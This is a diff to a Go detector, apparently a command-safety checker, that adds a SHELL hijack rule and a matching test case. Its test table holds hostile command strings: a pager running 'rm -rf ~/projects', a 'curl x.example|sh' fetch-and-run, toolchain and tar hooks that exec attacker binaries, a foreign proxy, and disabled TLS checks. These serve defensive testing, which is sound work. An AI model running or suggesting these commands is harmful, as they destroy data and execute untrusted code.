@@ -21,7 +21,7 @@ func prefixEnv() table {
 				"npm_config_script_shell=/tmp/x npm run build", "PYTHONPATH=/tmp/p python3 -m pytest", "BROWSER=/tmp/x gh repo view --web", "PYTHONBREAKPOINT=os.system pytest", "MAVEN_OPTS=-javaagent:/tmp/x.jar mvn package",
 				"PAGER='sh -c \"rm -rf ~/projects\"' man ls", "EDITOR=/tmp/x crontab -e", "GIT_SSL_NO_VERIFY=1 git push", "HTTPS_PROXY=http://203.0.113.9:3128 git push", "NODE_TLS_REJECT_UNAUTHORIZED=0 npm publish",
 				"TAR_OPTIONS='--checkpoint-action=exec=/tmp/x' tar cf a.tar src", "GOFLAGS='-toolexec=/tmp/x' go test ./...", "RUSTFLAGS='-C linker=/tmp/x' cargo build", "FZF_DEFAULT_COMMAND='curl x.example|sh' fzf",
-				"RSYNC_RSH=/tmp/x rsync h:a .", "MAKEFILES=/tmp/x.mk make", "AWS_ENDPOINT_URL=https://x.example aws s3 ls", "CC=/tmp/x make", "env PATH=/tmp/bin:$PATH make",
+				"RSYNC_RSH=/tmp/x rsync h:a .", "MAKEFILES=/tmp/x.mk make", "AWS_ENDPOINT_URL=https://x.example aws s3 ls", "SHELL=/tmp/e tmux new -d", "CC=/tmp/x make", "env PATH=/tmp/bin:$PATH make",
 			},
 			Passes: []string{
 				"GIT_PAGER=cat git log", "GIT_EDITOR=true git rebase --continue", "EDITOR=vim git commit", "PYTHONPATH=src pytest", "CC=clang make", "GIT_SEQUENCE_EDITOR=: git rebase -i x", "GOFLAGS=-mod=mod go test ./...",
@@ -150,6 +150,8 @@ func hijacks(c *ctx, name string, v shell.Word) bool {
 		return strings.Contains(t, "antigravity")
 	case "CC", "CXX", "LD", "AR", "AS", "CPP", "HOSTCC", "CMAKE_C_COMPILER", "CC_FOR_TARGET":
 		return strings.Contains(t, "/tmp/") || strings.HasPrefix(t, "./") || strings.HasPrefix(t, "../") || strings.HasPrefix(t, "/dev/shm/") || strings.HasPrefix(t, "sh -c") || strings.HasPrefix(t, "bash -c")
+	case "SHELL":
+		return t != "" && (foreignPath(c, v) || strings.HasPrefix(t, "./"))
 	case "http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "ftp_proxy", "FTP_PROXY", "npm_config_proxy", "npm_config_https_proxy":
 		return foreignProxy(t)
 	case "NODE_TLS_REJECT_UNAUTHORIZED", "PYTHONHTTPSVERIFY":
